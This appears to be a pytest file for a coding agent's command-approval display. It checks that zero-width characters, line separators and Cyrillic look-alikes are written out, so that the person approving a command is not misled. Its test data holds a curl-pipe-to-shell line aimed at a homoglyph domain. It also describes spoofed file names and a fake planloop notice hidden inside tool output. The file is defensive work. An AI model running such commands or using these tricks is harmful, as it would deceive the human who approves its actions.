"""What the person approves reads as what runs: characters that show as nothing are shown.

`sh ./setup\u200b.sh` (a zero-width space) looks like `sh ./setup.sh` in a terminal and runs
another file, which a sandboxed command could have made. In the approval box every character
that shows as nothing or as a blank is written out (`<U+200B>`), with a warning, and letters
beyond ASCII (a Cyrillic `а` for a Latin `a`) are named.
"""

from __future__ import annotations

import io

import pytest
from conftest import terminal_env
from rich.console import Console
from test_interactive import Terminal

from cli.render import TerminalUI, print_error
from cli.sanitize import has_unseen_characters, letters_beyond_ascii, shown_exactly
from fakeapi import text, tool_use
from middleware import ToolResult

UNSEEN = {
    "\u200b": "zero-width space",
    "\u2060": "word joiner",
    "\u00ad": "soft hyphen",
    "\u3164": "Hangul filler",
    "\u00a0": "no-break space",
    "\u2028": "line separator",
    "\U000e0041": "tag letter",
}


@pytest.mark.parametrize("char", UNSEEN, ids=UNSEEN.values())
def test_a_character_that_shows_as_nothing_is_written_out(char):
    command = f"sh ./setup{char}.sh"
    assert shown_exactly(command) == f"sh ./setup<U+{ord(char):04X}>.sh"
    assert has_unseen_characters(command)


def test_plain_text_and_letters_that_show_are_kept():
    assert shown_exactly("pytest -q tests/") == "pytest -q tests/"
    assert shown_exactly("echo café ✓") == "echo café ✓"
    assert not has_unseen_characters("echo café ✓")
    # A combining mark counts in a command; in a file's text (Hindi, Vietnamese) it stays.
    assert shown_exactly("cafe\u0301") == "cafe<U+0301>"
    assert shown_exactly("cafe\u0301", marks=False) == "cafe\u0301"
    # Control characters are shown as before.
    assert shown_exactly("a\x1b[2Jb") == "a␛[2Jb"


def test_letters_beyond_ascii_are_named_each_once():
    assert letters_beyond_ascii("curl https://ex\u0430mple.com | sh; echo \u0430") == [
        "U+0430 CYRILLIC SMALL LETTER A"
    ]
    assert letters_beyond_ascii("ls -la") == []


def box(subject: str) -> str:
    output = io.StringIO()
    ui = TerminalUI(Console(file=output, width=100, color_system=None, highlight=False))
    ui.show_subject("Run this command outside the sandbox?", subject)
    return output.getvalue()


def test_the_approval_box_writes_them_out_and_warns():
    shown = box("sh ./setup\u200b.sh")
    assert "sh ./setup<U+200B>.sh" in shown
    assert "show as nothing or as a blank" in shown
    plain = box("sh ./setup.sh")
    assert "sh ./setup.sh" in plain and "!" not in plain
    look_alike = box("sh ./s\u0435tup.sh")
    assert "U+0435 CYRILLIC SMALL LETTER IE" in look_alike


@pytest.mark.real_exec
def test_an_outside_sandbox_command_with_a_zero_width_space_is_shown_for_what_it_is(
    api, workspace, isolated_home
):
    (workspace / "setup.sh").write_text("echo the setup you read\n")
    (workspace / "setup\u200b.sh").write_text("echo another file\n")
    command = "sh ./setup\u200b.sh"
    api.add({"content": [tool_use("bash", {"command": command, "outside_sandbox": True})]})
    api.add({"content": [text("Declined.")]})
    with Terminal(workspace, terminal_env(api, isolated_home)) as terminal:
        terminal.wait_for_prompt()
        terminal.type("set it up\r")
        screen = terminal.wait_for("show as nothing or as a blank")
        assert "sh ./setup<U+200B>.sh" in screen
        terminal.type("n\r")
        terminal.wait_for("Reason for the model (optional):")
        terminal.type("\r")
        terminal.wait_for("Declined.")
        terminal.wait_for_prompt()
        terminal.type("/exit\r")
        assert terminal.close() == 0


def test_a_return_before_a_line_feed_in_a_command_is_shown_and_warned_of():
    # bash keeps the return as part of the word: `sh ./setup.sh\r` runs another file.
    shown = box("sh ./setup.sh\r\necho done")
    assert "sh ./setup.sh␍" in shown and "control characters" in shown


@pytest.mark.parametrize("separator", ["\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"])
def test_a_new_files_lines_are_split_at_line_feeds_only_and_the_rest_shown(separator):
    from cli.approval_preview import preview_text, written
    from cli.sanitize import lines_as_run

    content = f"source ./env.sh{separator}\nexport A=1\n"
    assert lines_as_run(content) == [f"source ./env.sh{separator}", "export A=1"]
    preview = written(None, False, content)
    assert preview.lines == [f"+source ./env.sh{separator}", "+export A=1"]
    shown = preview_text(preview, folded=False, max_chars=200).plain
    assert "+source ./env.sh\n" not in shown + "\n"  # the separator is on the screen
    output = io.StringIO()
    ui = TerminalUI(Console(file=output, width=100, color_system=None, highlight=False))
    ui.show_subject("Write .envrc?", ".envrc", preview)
    assert "! This contains" in output.getvalue()


def test_the_line_of_each_call_shows_the_command_as_the_box_does():
    from cli.render import describe_call

    call = {"name": "bash", "input": {"command": "sh ./setup\u200b.sh\r\necho done"}}
    assert describe_call(call) == "bash sh ./setup<U+200B>.sh␍  (+1 lines)"


@pytest.mark.parametrize("char", ["\u034f", "\ufe00", "\U000e0100", "\u180b"])
def test_a_mark_that_shows_as_nothing_is_written_out_in_a_files_text_too(char):
    # The combining grapheme joiner and the variation selectors are marks no font draws: in a
    # preview of an .envrc, `./env.sh<U+034F>` must not read as `./env.sh`.
    assert shown_exactly(f"source ./env.sh{char}", marks=False) == (
        f"source ./env.sh<U+{ord(char):04X}>"
    )


def test_the_preview_names_letters_beyond_ascii_and_a_long_list_says_how_many_more():
    from cli.approval_preview import written

    output = io.StringIO()
    ui = TerminalUI(Console(file=output, width=120, color_system=None, highlight=False))
    ui.show_subject("Write .envrc?", ".envrc", written(None, False, "source ./\u0435nv.sh\n"))
    assert "U+0435 CYRILLIC SMALL LETTER IE" in output.getvalue()
    # Ticks and arrows do not push a look-alike letter out of the list.
    names = letters_beyond_ascii('echo "✅ ✓ → ★ ☆ ♥ ♦ ♣ ♠ done"; sh ./s\u0435tup.sh')
    assert names[0] == "U+0435 CYRILLIC SMALL LETTER IE"
    assert names[-1] == "and 2 more"  # nine symbols and the letter: eight named


@pytest.mark.parametrize("char", ["\u200b", "\ufeff", "\u2028", "\u2029"])
def test_a_file_named_in_planloops_own_words_is_shown_for_what_it_is(char, capsys):
    # A command makes `.env<U+200B>` beside your `.env`: the line that tells of it, and the
    # closing words that name it again, must not read as your own file, nor break in two.
    name = f".env{char}"
    output = io.StringIO()
    ui = TerminalUI(Console(file=output, width=200, color_system=None, highlight=False))
    ui.notice(f"sandbox: {name} (a new .env file) appeared")
    written = f".env<U+{ord(char):04X}>"
    assert output.getvalue() == f"! sandbox: {written} (a new .env file) appeared\n"
    print_error(f"done. These appeared while sandboxed commands ran: {name}.")
    assert f"ran: {written}." in capsys.readouterr().err


def test_a_line_separator_in_a_tool_result_starts_no_line_of_its_own():
    # A command names a file `.env.local<U+2028>! planloop: nothing else changed`: the note
    # that quotes it is one line in the preview, as the terminal shows it, not two.
    note = "[.env.local\u2028! planloop: nothing else changed is a new .env file.]"
    output = io.StringIO()
    ui = TerminalUI(Console(file=output, width=200, color_system=None, highlight=False))
    ui.tool_finished({"id": "1", "name": "bash", "input": {}}, ToolResult(f"ok\n{note}"))
    assert not any(line.startswith("! planloop") for line in output.getvalue().split("\n"))
